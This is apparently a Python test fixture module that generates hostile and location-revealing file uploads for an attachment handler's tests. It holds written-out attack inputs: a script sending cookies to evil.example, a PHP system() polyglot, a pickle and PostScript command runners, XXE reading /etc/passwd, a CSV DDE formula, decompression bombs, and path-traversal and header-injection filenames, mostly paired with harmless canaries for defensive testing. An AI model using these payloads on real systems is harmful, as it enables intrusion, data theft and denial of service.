"""Files that attackers send, and honest ones that tell where a person lives, each by name.

``PLACE`` stands, as text and as the bytes of its figures, wherever a format can tell it.
"""

# ruff: noqa: E501 - one file a line

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from functools import cache

import pillow_heif
from PIL import Image, TiffImagePlugin

from tests.requests.attachments import pdfs
from tests.requests.attachments.pictures import HOSTILE as UNREADABLE
from tests.requests.attachments.pictures import SVG, picture, png_header

PLACE = b"GPSMARK+47.2184-001.5536/"
CANARY = "/tmp/trust-canary-{}"  # a command in the file would make it
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GPS_IFD = {1: "N", 2: (47.0, 13.0, 6.2468), 3: "W", 4: (1.0, 33.0, 12.9612)}
# The seconds of the latitude as EXIF writes them: they stand in no file by chance.
SECONDS = [struct.pack(end + "II", 15617, 2500) for end in "<>"]


def exif() -> bytes:
    made = Image.Exif()
    made[0x010E] = PLACE.decode()
    made.get_ifd(0x8825).update(GPS_IFD)
    return made.tobytes()


def xmp() -> bytes:
    return b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + PLACE + b"</x:xmpmeta>"


def box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + name + body


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def film(brand: bytes, told: bytes) -> bytes:
    moov = box(b"mvhd", b"\0" * 100) + box(b"trak", box(b"tkhd", b"\0" * 84) + told) + told
    return box(b"ftyp", brand + b"\0\0\0\0") + box(b"mdat", b"\x21" * 400) + box(b"moov", moov)


def heic() -> bytes:
    out = io.BytesIO()
    made = pillow_heif.from_pillow(Image.new("RGB", (64, 48), "red"))
    made.save(out, quality=50, exif=exif(), xmp=xmp())
    return out.getvalue()


def tiff() -> bytes:
    out, told = io.BytesIO(), TiffImagePlugin.ImageFileDirectory_v2()
    told[700], told[270] = xmp(), "une vue"
    made = Image.Exif()
    made.get_ifd(0x8825).update(GPS_IFD)
    Image.new("RGB", (30, 20), "red").save(out, "TIFF", tiffinfo=told, exif=made.tobytes())
    return out.getvalue()


def gif() -> bytes:
    whole = picture("GIF", size=(9, 9), mode="P")
    told = b"\x21\xff\x0bXMP DataXMP" + xmp() + b"\x01" + bytes(range(255, -1, -1)) + b"\0"
    return whole[:-1] + told + whole[-1:]


def zipped(*rows: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in rows:
            made.writestr(name, data)
    return out.getvalue()


def tarred(name: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        made.addfile(tarfile.TarInfo(name))
    return out.getvalue()


def matryoshka(depth: int) -> bytes:
    data = zipped(("zeros", bytes(5_000_000)))
    for number in range(depth):
        data = zipped(*((f"{number}-{n}.zip", data) for n in range(8)))
    return data


def touching(number: int) -> bytes:
    return f"touch {CANARY.format(number)}".encode()


WORD = (
    ("[Content_Types].xml", b"<Types/>"),
    ("word/document.xml", b"<w:document/>"),
    ("word/vbaProject.bin", b"AutoOpen Shell canary"),
)
BOMB = zlib.compress(bytes(200_000_000), 9)
BOMB_PDF = pdfs.page(
    leaf=b"/Contents [4 0 R 10 0 R]", more={10: pdfs.stream(BOMB, b"/Filter /FlateDecode")}
)
HTML = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
RTL = "facture\u202efdp.exe"


@cache
def files() -> dict[str, tuple[str, bytes]]:
    """Return ``what it is → (name it is sent under, bytes)``."""
    jpeg, png = picture(), picture("PNG")
    told = dict(exif=exif(), xmp=xmp(), comment=PLACE)
    rows: dict[str, tuple[str, bytes]] = {
        name: ("vacances.jpg", data) for name, data in UNREADABLE.items()
    }
    rows |= {f"pdf with {name}": ("devis.pdf", data) for name, data in pdfs.HOSTILE.items()}
    rows |= {f"pdf that is {name}": ("devis.pdf", data) for name, data in pdfs.BROKEN.items()}
    rows |= {
        # Where it was taken.
        "jpeg with EXIF, XMP, comment": ("a.jpg", picture(**told)),
        "jpeg cut, with its place": ("a.jpg", picture(size=(900, 900), **told)[:-900]),
        "jpeg with a thumbnail of another": ("a.jpg", picture(exif=exif()) + picture(**told)),
        "jpeg with a place in IPTC": (
            "a.jpg",
            jpeg[:2] + b"\xff\xed" + struct.pack(">H", 2 + 40 + len(PLACE))
            + b"Photoshop 3.0\0" + b"\0" * 26 + PLACE + jpeg[2:],
        ),
        "png with EXIF": ("a.png", picture("PNG", exif=exif())),
        "png with a place in its words": ("a.png", png[:33] + chunk(b"tEXt", b"P\0" + PLACE) + png[33:]),
        "png with XMP": ("a.png", png[:33] + chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp()) + png[33:]),
        "webp with EXIF and XMP": ("a.webp", picture("WEBP", exif=exif(), xmp=xmp())),
        "heic with EXIF and XMP": ("IMG_1.HEIC", heic()),
        "heic cut, with its place": ("IMG_2.HEIC", heic()[:-60]),
        "tiff with a place": ("scan.tif", tiff()),
        "gif with XMP": ("a.gif", gif()),
        "film of an iPhone": ("IMG_3.MOV", film(b"qt  ", box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(PLACE), 0x15C7) + PLACE)))),
        "film with keys of Apple": ("IMG_4.MOV", film(b"qt  ", box(b"meta", box(b"keys", b"mdtacom.apple.quicktime.location.ISO6709") + box(b"ilst", PLACE)))),
        "film of a 3G telephone": ("clip.3gp", film(b"3gp5", box(b"udta", box(b"loci", b"\0" * 8 + PLACE)))),
        "film with a box of its own": ("clip.mp4", film(b"mp42", box(b"uuid", b"\0" * 16 + PLACE))),
        "pdf with a photo and its place": ("etat.pdf", pdfs.PLAIN),
        # More than they seem.
        "jpeg, then HTML": ("a.html", jpeg + HTML),
        "jpeg, then ZIP": ("a.zip", jpeg + zipped(("x.exe", b"MZ"))),
        "jpeg, then PHP": ("a.php.jpg", jpeg + b"<?php system('%s'); ?>" % touching(1)),
        "jpeg whose comment is a script": ("a.svg", picture(comment=HTML)),
        "png whose words are a script": ("a.htm", png[:33] + chunk(b"tEXt", b"Title\0" + HTML) + png[33:]),
        "pdf, then a program": ("a.exe", pdfs.PLAIN + b"MZ" + bytes(200)),
        "gif that is JavaScript": ("a.js", b"GIF89a=1;" + touching(2)),
        "bmp that is JavaScript": ("a.bmp", b"BM/*" + bytes(50) + b"*/=1;" + touching(3)),
        "html called jpg": ("photo.jpg", HTML),
        "html behind a byte order mark": ("photo.png", b"\xef\xbb\xbf" + HTML),
        "html in UTF-7": ("photo.webp", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        "svg with a link outside": ("plan.svg", SVG.replace(b"<script>", b"<image href='file:///etc/passwd'/><script>")),
        "xml with an entity of a file": ("plan.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        "xml of a billion laughs": ("plan.svg", b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;" * 10) for n in range(9)) + b"]><svg>&a8;</svg>"),
        # Programs and what starts one.
        "postscript that runs a command": ("a.jpg", b"%!PS\n(%pipe%" + touching(4) + b") (w) file\n"),
        "a drawing that runs a command": ("a.png", b"push graphic-context\nfill 'url(https://x\"|" + touching(5) + b"\")'\npop graphic-context"),
        "a link of a desktop": ("photo.jpg.desktop", b"[Desktop Entry]\nExec=sh -c '" + touching(6) + b"'\n"),
        "a script of Windows": ("a.bat", b"@echo off\r\ncalc.exe\r\n"),
        "a link of Windows": ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60)),
        "a help of Windows": ("a.chm", b"ITSF\x03\0\0\0" + bytes(60)),
        "an HTML application": ("a.hta", b"<hta:application><script>new ActiveXObject('WScript.Shell')</script>"),
        "a Java archive": ("a.jar", zipped(("META-INF/MANIFEST.MF", b"Main-Class: X"))),
        "a pickle": ("a.pkl", b"cos\nsystem\n(S'" + touching(7) + b"'\ntR."),
        "the test file of scanners": ("eicar.com", EICAR),
        "the test file of scanners, zipped": ("eicar.zip", zipped(("eicar.com", EICAR))),
        "a document with macros": ("devis.docm", zipped(*WORD)),
        "a table that asks a program": ("a.csv", b"=cmd|'/c calc'!A1,+1,@SUM(1)\n"),
        "an old table with macros": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "Workbook".encode("utf-16-le") + b"Auto_Open"),
        "rich text with an object": ("a.doc", rb"{\rtf1{\object\objemb{\*\objdata 01050000}}}"),
        "a letter of Outlook": ("winmail.dat", b"\x78\x9f\x3e\x22" + bytes(100)),
        "a calendar that starts a program": ("a.ics", b"BEGIN:VCALENDAR\nATTACH:file:///c:/windows/calc.exe\nEND:VCALENDAR"),
        # Too much.
        "zip of forty gigabytes in itself": ("a.zip", matryoshka(3)),
        "gzip of 200 MB": ("a.gz", gzip.compress(bytes(200_000_000))),
        "pdf of 200 MB": ("a.pdf", BOMB_PDF),
        "png of 200 MB in its profile": ("a.png", png[:33] + chunk(b"iCCP", b"x\0\0" + BOMB) + png[33:]),
        "png of 39 megapixels": ("a.png", picture("PNG", size=(7800, 5000), mode="1")),
        "jpeg of 65,500 by 600": ("a.jpg", picture(size=(65_500, 600), mode="L")),
        "webp of 14 megapixels": ("a.webp", picture("WEBP", size=(4300, 3200), method=0)),
        "gif of 65,535 a side": ("a.gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(800)),
        "tiff whose directories go round": ("a.tif", b"II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"),
        "film of boxes in boxes": ("a.mp4", box(b"ftyp", b"mp42") + b"\0\xff\xff\xffmoov" * 2_000),
        "heic of 60,000 a side": ("a.heic", heic().replace(struct.pack(">II", 64, 48), struct.pack(">II", 60_000, 60_000))),
        "png of 2,000 frames": ("a.png", png[:33] + chunk(b"acTL", struct.pack(">II", 2_000, 0)) * 2_000 + png[33:]),
        # Names.
        "a path upwards": ("../../../../tmp/trust-canary-8", jpeg),
        "a path of Windows": ("..\\..\\windows\\win.ini", jpeg),
        "an absolute path": ("/etc/cron.d/trust-canary", png),
        "a NUL in its name": ("a.php\0.jpg", jpeg),
        "a name from right to left": (RTL, jpeg),
        "a name with a line break": ("a\r\nSet-Cookie: x=1.jpg", jpeg),
        "a name that is markup": ("<img src=x onerror=alert(1)>.jpg", jpeg),
        "a name of 255 bytes": ("é" * 125 + "a.jpg", jpeg),
        "a name of dots": ("...", png),
        "a name of a device": ("CON.jpg", jpeg),
        "two endings": ("devis.pdf.exe", pdfs.PLAIN),
        "an ending of a server": (".htaccess", b"AddType application/x-httpd-php .jpg"),
        "an archive that climbs": ("a.zip", zipped(("../../../tmp/trust-canary-9", b"x"))),
        "a tape that climbs": ("a.tar.gz", tarred("../../../tmp/trust-canary-9")),
        "png no bytes long at all": ("a.png", png_header(0, 0)),
    }  # fmt: skip
    return rows
